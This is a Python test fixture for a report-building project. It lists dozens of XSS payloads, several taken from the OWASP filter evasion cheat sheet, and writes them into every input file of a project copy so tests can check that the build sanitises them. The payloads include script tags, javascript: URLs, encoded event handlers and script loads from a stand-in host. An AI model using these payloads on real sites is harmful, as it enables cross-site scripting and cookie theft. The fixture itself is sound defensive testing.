"""Hostile inputs (issue 13) and a project copy that carries them through every input channel.

Shared by tests/robustness/test_hostile.py (built HTML, PDFs) and
tests/browser/test_hostile_browser.py (Chromium). Every payload is tagged with a marker "ZXnn"
so a test can check that the text around it is still visible (no element swallowed the page).

Channels: a new source document in each format (markdown, html, plaintext, ocr), msgstrs in a PO
file, a glossary entry, a table label and caption in data/tables/presentation.yaml, a correction
(replacement and note) in data/corrections/, the manifest's title, publisher, url and rights."""
from __future__ import annotations

import hashlib
import html
import re
import struct
import zlib
from pathlib import Path

import polib
import yaml

# The cases, then the OWASP XSS filter evasion cheat sheet's classics. {port} is a local
# HTTP server the PDF test runs (requests to it must never happen); {outside} a PNG outside the project.
PAYLOADS = [
    # the issue
    "[点击](javascript:alert(1))",
    '[链接](https://example.com/a){: onclick="alert(1)" }',
    '![x](x){: onerror="alert(1)" }',
    "![](https://tracker.example/pixel.png)",
    '文字 {: style="position:fixed;top:0;left:0;width:100%;height:100%"}',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<script>alert(1)</script>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<svg><script>alert(1)</script></svg>",
    "<style>body{display:none}</style>",
    "<b onclick=\"alert(1)\">粗体</b>",
    "<span style=\"position:fixed\">样式</span>",
    "![](http://127.0.0.1:{port}/track.png)",
    "<img src=\"http://127.0.0.1:{port}/track2.png\">",
    "![](file://{outside})",
    "<img src=\"file://{outside}\">",
    "a < b && c > d; 1 <2 and x<y",
    # OWASP filter evasion classics
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=//xss.example/.j>",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<svg/onload=alert('XSS')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">背景</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">表达式</DIV>",
    "<iframe src=//xss.example/frame></iframe>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<LINK REL=\"stylesheet\" HREF=\"http://xss.example/xss.css\">",
    "<a href=\"vbscript:msgbox('XSS')\">vb</a>",
    "<a href=\" JaVaScRiPt:alert(1)\">混合大小写</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">实体</a>",
    "[点击](JaVaScRiPt:alert(1))",
    "[点击](&#106;avascript:alert(1))",
    "[点击](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](//xss.example/x)",
    "\"><script>alert(1)</script>",
    "'';!--\"<XSS>=&{()}",
    "{++<script>alert(1)</script>++}",
    "[^evil]: 注入的脚注",
    "[evil]: javascript:alert(1)",
    "<details open ontoggle=alert(1)>",
    "<!-- 注释 --><script>alert(1)</script>",
    "\\<script\\>alert(1)\\</script\\>",
]
# shown literally (as text) wherever they enter: no markup of any kind in them
LITERAL = ["a < b && c > d; 1 <2 and x<y", "'';!--\"<XSS>=&{()}"]


def payloads(port: int, outside: Path) -> list[str]:
    return [p.replace("{port}", str(port)).replace("{outside}", str(outside)) for p in PAYLOADS]


def tagged(port: int, outside: Path) -> list[tuple[str, str]]:
    """(marker, payload) pairs: ZX00 … ZXnn."""
    return [(f"ZX{i:02d}", p) for i, p in enumerate(payloads(port, outside))]


def outside_png(path: Path, w: int = 37, h: int = 23) -> Path:
    """A small PNG (of an unusual size, to recognise it in `pdfimages -list`) outside the project."""
    raw = b"".join(b"\x00" + bytes([200, 30, 30]) * w for _ in range(h))

    def chunk(kind, data):
        c = struct.pack(">I", len(data)) + kind + data
        return c + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
           + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))
    path.write_bytes(png)
    return path


def _balanced(fragment: str) -> bool:
    from bireport.errors import BuildError
    from bireport.sources.html import _check_balanced

    try:
        _check_balanced(fragment, "x", 1)
        return True
    except BuildError:
        return False


def make_hostile(root: Path, port: int, outside: Path) -> dict:
    """Put the payloads into every input channel of the project copy at `root`."""
    items = tagged(port, outside)
    src = root / "data" / "sources"
    docs = {}
    # markdown source: one paragraph per payload, and a heading carrying one
    md = ["# 恶意文档（Markdown）", "", "## 1 标题ZX90 <script>alert(1)</script> {: onclick=alert(1)}", ""]
    md += [f"{m} 段落：{p} 结束。\n" for m, p in items]
    docs["hostile-md"] = ("hostile-md.md", "markdown", "\n".join(md))
    # html source: every payload as text (escaped in the HTML) and, where it parses, as raw HTML
    h = ["# 恶意文档（HTML）", "", "<section>"]
    for m, p in items:
        h.append(f"<p>{m}-t 文本：{html.escape(p)} 结束。</p>")
        if _balanced(f"<p>{p}</p>"):
            h.append(f"<p>{m}-r 原始：{p} 结束。</p>")
    h.append("</section>")
    docs["hostile-html"] = ("hostile-html.html.md", "html", "\n".join(h) + "\n")
    # plain text and OCR text: one payload per line
    docs["hostile-txt"] = ("hostile-txt.txt", "plaintext",
                           "恶意文档（纯文本）\n" + "".join(f"{m} 行文：{p} 结束。\n" for m, p in items))
    docs["hostile-ocr"] = ("hostile-ocr.ocr.txt", "ocr",
                           "恶意文档（OCR）\n\n" + "".join(f"  {m} 识别：{p} 结束。\n\n" for m, p in items))
    manifest_path = src / "manifest.yaml"
    m = yaml.safe_load(manifest_path.read_text(encoding="utf-8"))
    for k, (doc_id, (name, fmt, text)) in enumerate(docs.items()):
        (src / name).write_text(text, encoding="utf-8")
        title, pub = items[k * 7 % len(items)][1], items[(k * 7 + 3) % len(items)][1]
        m["documents"].append({
            "id": doc_id, "file": name, "format": fmt, "script": "Hans",
            "title": {"zh": f"恶意标题ZX9{k} {title}", "en": f"Hostile title ZX9{k} {title}"},
            "publisher": {"zh": f"恶意机构 {pub}", "en": f"Hostile publisher {pub}"},
            "date": "2025-01-01", "paging": "single",
            "url": ["javascript:alert(1)", "https://example.com/ok", "data:text/html,x", "//xss.example/x"][k],
            "rights": f"恶意版权 {items[(k * 7 + 5) % len(items)][1]}",
            "sha256": hashlib.sha256(text.encode("utf-8")).hexdigest()})
    manifest_path.write_text(yaml.safe_dump(m, allow_unicode=True, sort_keys=False), encoding="utf-8")

    # PO msgstrs: translated entries of two documents get the payloads
    po_items = []
    rest = list(items)
    for name in ("nyt-2024-12-12.po", "scio-whitepaper-2025.po"):
        po_path = root / "data" / "i18n" / "en" / name
        po = polib.pofile(str(po_path))
        entries = [e for e in po if e.msgstr and not e.fuzzy and not e.obsolete and "/meta/" not in e.msgctxt
                   and "/front/" not in e.msgctxt and "/t" not in e.msgctxt.rsplit("/", 1)[-1][:2]]
        for e, (mk, p) in zip(entries, rest):
            e.msgstr = f"{mk} translated: {p} end."
            po_items.append((name, e.msgctxt, mk))
        rest = rest[len(entries):]
        po.save(str(po_path))

    # glossary entry
    gpath = root / "data" / "glossary.yaml"
    g = yaml.safe_load(gpath.read_text(encoding="utf-8"))
    g["terms"].append({"zh": "恶意术语", "en": "ZX80 " + items[6][1], "note": "ZX81 " + items[1][1] + " " + items[2][1]})
    gpath.write_text(yaml.safe_dump(g, allow_unicode=True, sort_keys=False), encoding="utf-8")

    # a table label in presentation.yaml (the tables' English where the PO has none: data page, charts)
    ppath = root / "data" / "tables" / "presentation.yaml"
    text = ppath.read_text(encoding="utf-8")
    label = "Year ZX82 <script>alert(1)</script> [x](javascript:alert(1)) {: onclick=alert(1)}"
    text, n = re.subn(r"(?m)^(  年份: ).*$", lambda m: m.group(1) + yaml.safe_dump(label, width=1000).splitlines()[0], text, 1)
    assert n == 1, "presentation.yaml has no label for 年份"
    ppath.write_text(text, encoding="utf-8")

    # a correction: the replacement and the note carry markup
    cpath = root / "data" / "corrections" / "xinhua-2019-01-31.yaml"
    c = yaml.safe_load(cpath.read_text(encoding="utf-8"))
    c["corrections"][0]["replace"] = "{++1<img src=x onerror=alert(1)>++}月30日至31日，中共中央"
    c["corrections"][0]["note"] = "ZX84 <script>alert(1)</script> [n](javascript:alert(1)) / ZX84 <iframe src=javascript:alert(1)>"
    cpath.write_text(yaml.safe_dump(c, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return {"items": items, "po": po_items, "docs": list(docs)}
